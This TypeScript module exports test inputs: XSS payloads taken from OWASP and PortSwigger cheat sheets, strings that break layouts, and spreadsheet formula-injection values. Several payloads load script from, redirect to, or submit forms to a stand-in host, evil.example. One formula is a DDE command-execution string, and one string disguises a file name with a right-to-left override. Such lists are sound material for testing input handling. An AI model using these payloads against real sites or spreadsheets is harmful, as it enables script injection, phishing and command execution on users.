const alarm = "alert(document.domain)";

/** Thirty-odd ways to be run by a page that trusts text (after the OWASP and PortSwigger cheat sheets). */
export const scripts: readonly string[] = [
  `<script>${alarm}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=${alarm}>`,
  `<img src=//evil.example/x.png>`,
  `<svg onload=${alarm}>`,
  `<svg><script>${alarm}</script></svg>`,
  `<svg><animate onbegin=${alarm} attributeName=x dur=1s>`,
  `<body onload=${alarm}>`,
  `<iframe src="javascript:${alarm}"></iframe>`,
  `<iframe srcdoc="<script>${alarm}</script>">`,
  `<a href="javascript:${alarm}">here</a>`,
  `<details open ontoggle=${alarm}>`,
  `<input autofocus onfocus=${alarm}>`,
  `<video><source onerror=${alarm}></video>`,
  `<marquee onstart=${alarm}>`,
  `<math><mi//xlink:href="data:x,<script>${alarm}</script>">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<form action=//evil.example><button>OK</button></form>`,
  `<object data="data:text/html,<script>${alarm}</script>">`,
  `<template><script>${alarm}</script></template>`,
  `</title><script>${alarm}</script>`,
  `</textarea><script>${alarm}</script>`,
  `</script><script>${alarm}</script>`,
  `</style><script>${alarm}</script>`,
  `--><script>${alarm}</script><!--`,
  `]]><script>${alarm}</script>`,
  `" onmouseover="${alarm}" x="`,
  `' onfocus='${alarm}' autofocus='`,
  `\`-${alarm}-\``,
  `javascript:${alarm}`,
  `{{constructor.constructor('${alarm}')()}}`,
  `\${${alarm}}`,
  `\u2028${alarm}\u2029`,
  `&lt;script&gt;${alarm}&lt;/script&gt;`,
];

/**
 * Text that breaks layouts rather than pages: endless words, marks upon marks, right to left, nothing to see. All but the
 * first are as long as the longest field takes.
 */
export const shapes: readonly string[] = [
  "W".repeat(10_000),
  "👩‍👩‍👧‍👦".repeat(50),
  `z${"\u0301\u0338".repeat(150)}`,
  "مرحبا بالعالم ".repeat(20),
  `abc\u202Egnp.exe\u2066${"x".repeat(300)}`,
  "\u200B\u200D\uFEFF\u2060",
  "長".repeat(600),
  "a-b_c/d.e".repeat(60),
];

/** What a spreadsheet would run. */
export const formulas: readonly string[] = [
  "=1+1",
  "+1",
  "@SUM(A1)",
  "-2+3",
  "=cmd|'/c calc'!A0",
  "\t=1",
  "\r=1",
  "\n=1",
];
